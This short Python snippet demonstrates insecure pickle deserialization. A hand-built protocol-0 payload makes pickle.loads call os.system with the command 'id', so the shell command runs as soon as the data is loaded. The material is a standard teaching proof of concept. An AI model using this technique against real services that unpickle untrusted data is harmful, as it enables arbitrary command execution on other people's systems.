# A protocol-0 pickle that calls os.system when loaded.
import pickle

payload = b"cos\nsystem\n(S'id'\ntR."
pickle.loads(payload)
